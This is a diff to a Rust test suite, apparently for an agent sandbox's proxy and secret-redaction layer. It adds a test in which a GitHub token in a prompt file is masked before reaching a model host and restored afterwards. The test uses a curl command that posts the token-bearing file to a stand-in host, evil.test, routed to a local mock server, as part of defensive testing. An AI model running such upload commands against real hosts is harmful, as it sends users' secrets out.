@@ -50,8 +50,23 @@ impl H2Server {
         }
     }
 
-    /// What the server received.
+    /// What the server received: one entry per request.
     fn requests(&self) -> Vec<serde_json::Value> {
+        self.log_lines()
+            .into_iter()
+            .filter(|v| v.get("mirrored").is_none())
+            .collect()
+    }
+
+    /// The bodies /mirror received.
+    fn mirrored(&self) -> Vec<String> {
+        self.log_lines()
+            .iter()
+            .filter_map(|v| v["mirrored"].as_str().map(str::to_owned))
+            .collect()
+    }
+
+    fn log_lines(&self) -> Vec<serde_json::Value> {
         std::fs::read_to_string(&self.log)
             .unwrap_or_default()
             .lines()
@@ -926,6 +941,49 @@ for word in (b'ping-1', b'ping-2'):
                 && e["status"] == 101
                 && e["tls"] == "inspected"),
             "{ev:#?}"
+        );
+    }
+);
+
+both!(
+    rehydrate_gives_the_agent_its_values_back_the_model_never_saw,
+    |env| {
+        let srv = H2Server::start();
+        let ca = env.home.join("test-ca.crt");
+        std::fs::copy(&pki().ca, &ca).unwrap();
+        env.own(&ca);
+        let p = srv.port;
+        // evil.test stands for a model API (the test certificate names it).
+        env.profile(
+            "rehydrate",
+            &format!(
+                "extends = \"default\"\n[network]\nmode = \"proxy\"\nallow = [\"evil.test\"]\n\
+             inspect = [\"evil.test\"]\nupstream_ca = [\"~/test-ca.crt\"]\n\
+             resolve = {{ \"evil.test\" = \"127.0.0.1:{p}\" }}\n\
+             [dlp]\nmodel_hosts = [\"evil.test\"]\nrehydrate = true\n"
+            ),
+        );
+        let token = github_token("zZ3q9XcV2bN7mL1pR8sT4uW6yZ0aB5");
+        std::fs::write(
+            env.project.join("prompt.txt"),
+            format!("please review: token = \"{token}\" and more text after it"),
+        )
+        .unwrap();
+        let o = env.sh(
+            &["--profile", "rehydrate"],
+            &format!("curl -sS --data-binary @prompt.txt https://evil.test:{p}/mirror"),
+        );
+        let out = ok(&o);
+        // The model got a placeholder; the agent reads its own value back.
+        let seen = srv.mirrored();
+        assert_eq!(seen.len(), 1, "{seen:?}");
+        assert!(seen[0].contains("[REDACTED:github-pat#1]"), "{seen:?}");
+        assert!(!seen[0].contains(&token), "{seen:?}");
+        assert_eq!(
+            out,
+            format!("please review: token = \"{token}\" and more text after it"),
+            "{}",
+            stderr(&o)
         );
     }
 );
